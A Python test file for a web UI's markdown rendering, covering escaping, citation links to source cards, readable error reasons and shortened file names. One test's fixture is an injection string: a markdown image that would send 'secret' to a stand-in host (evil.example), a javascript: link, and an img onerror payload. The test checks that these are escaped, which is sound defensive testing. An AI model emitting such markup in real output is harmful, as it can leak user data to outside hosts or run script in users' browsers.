"""Document and model text cannot become markup; citation markers become links to their source cards."""

import re

from webui.markdown import answer_markdown, escape_markdown, readable_reason, short_name, source_anchor


def _unescaped(pattern: str, text: str) -> list[str]:
    return re.findall(r"(?<!\\)" + pattern, text)


def test_injected_links_images_and_html_are_inert() -> None:
    hostile = "See ![pixel](http://evil.example/p.png?d=secret) and [click](javascript:alert(1)) <img src=x onerror=1>"
    escaped = escape_markdown(hostile)
    assert not _unescaped(r"\]\(", escaped) and not _unescaped(r"<", escaped) and not _unescaped(r"!\[", escaped)
    assert escaped.replace("\\", "") == hostile


def test_valid_citations_link_to_source_cards_and_invalid_ones_stay_text() -> None:
    answer = "Revenue was $5.2 billion [1], up from 2021 [2, 3]. See also [9]."
    md = answer_markdown(answer, turn=4, cited={1, 2, 3})
    assert f"[\\[1\\]](#{source_anchor(4, 1)})" in md
    assert f"[\\[2\\]](#{source_anchor(4, 2)}) [\\[3\\]](#{source_anchor(4, 3)})" in md
    assert "\\[9\\]" in md and "#source-4-9" not in md
    assert "\\$5\\.2" in md  # $ would start LaTeX in Streamlit


def test_reasons_show_bytes_as_text_or_hex_and_no_command_line_hints() -> None:
    assert (
        readable_reason("not a PDF (content starts with b'just som')") == 'not a PDF (content starts with "just som")'
    )
    assert readable_reason("starts with b'PK\\x03\\x04'") == "starts with bytes 50 4B 03 04"
    assert readable_reason("encrypted: password required (pass --password FILE=PASSWORD)") == (
        "encrypted: password required"
    )


def test_short_names_keep_the_start_and_the_extension() -> None:
    assert short_name("report.pdf") == "report.pdf"
    cut = short_name("JOHNSON_JOHNSON_2023Q2_EARNINGS_supplement_final.pdf")
    assert len(cut) == 34 and cut.startswith("JOHNSON_JOHNSON") and cut.endswith("final.pdf") and "…" in cut
